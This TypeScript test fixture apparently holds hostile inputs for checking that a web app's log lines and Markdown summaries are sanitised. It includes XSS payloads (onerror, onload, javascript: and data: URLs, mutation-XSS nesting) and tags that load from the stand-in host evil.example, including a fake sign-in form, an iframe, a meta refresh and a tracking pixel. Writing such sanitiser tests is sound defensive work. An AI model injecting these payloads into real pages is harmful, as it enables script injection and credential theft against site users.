/**
 * Texts that are programs where a page takes them for HTML. Each opens a dialog or asks another host as soon as one
 * of its ways works; both are failures of every visit.
 */
export const hostile = {
  /** An image whose failing runs a script. @param place where it was written; the dialog would say it */
  image: (place: string) => `<img src=x onerror=alert('${place}')>`,
  /** Leaves an attribute first. */
  attribute: (place: string) => `"><script>alert('${place}')</script>`,
  /** Without a space, as branches must be. */
  branch: (place: string) => `feat/<svg/onload=alert('${place}')>`,
};

/** A host that no page may ask anything. */
export const OTHER_HOST = 'http://evil.example';

/** Lines of a log. */
export const HOSTILE_LINES = [
  hostile.image('line'),
  hostile.attribute('line'),
  `${OTHER_HOST}/"onmouseover="alert('address')`,
  "javascript:alert('address')",
  '&lt;b&gt; stays as it is &amp; so does this',
];

/** A summary in Markdown: what of it is allowed is shown, the rest is gone. */
export const HOSTILE_SUMMARY = `
## The summary

**Bold stays bold.** [A link to somewhere](https://docs.example/page) stays one.

<script>alert('summary script')</script>
<img src=x onerror=alert('summary image')>
<svg onload=alert('summary svg')><a xlink:href="javascript:alert('svg link')"><text y="20">svg</text></a></svg>
<iframe src="${OTHER_HOST}/frame"></iframe>
<object data="${OTHER_HOST}/object"></object><embed src="${OTHER_HOST}/embed">
<style>body { display: none; background: url(${OTHER_HOST}/style) }</style>
<link rel="stylesheet" href="${OTHER_HOST}/sheet"><base href="${OTHER_HOST}/">
<meta http-equiv="refresh" content="0;url=${OTHER_HOST}/refresh">
<div style="position: fixed; inset: 0; background: url(${OTHER_HOST}/cover)">covers the page</div>
<form action="${OTHER_HOST}/form"><input autofocus onfocus=alert('summary focus')><button>Sign in again</button></form>
<video src="${OTHER_HOST}/video" onerror=alert('summary video') autoplay></video>
<math><mtext><table><mglyph><style><img src=x onerror=alert('summary math')></style></mglyph></table></mtext></math>
<details open ontoggle=alert('summary details')><summary>Details</summary>are kept</details>
<p id="content" name="app">an id of the page's own</p>

![a pixel of another host](${OTHER_HOST}/pixel.png)
[a script](javascript:alert('summary link'))
[another](data:text/html,<script>alert('summary data')</script>)
<a href="javascript:alert('summary anchor')" target="_top">an anchor</a>
`;
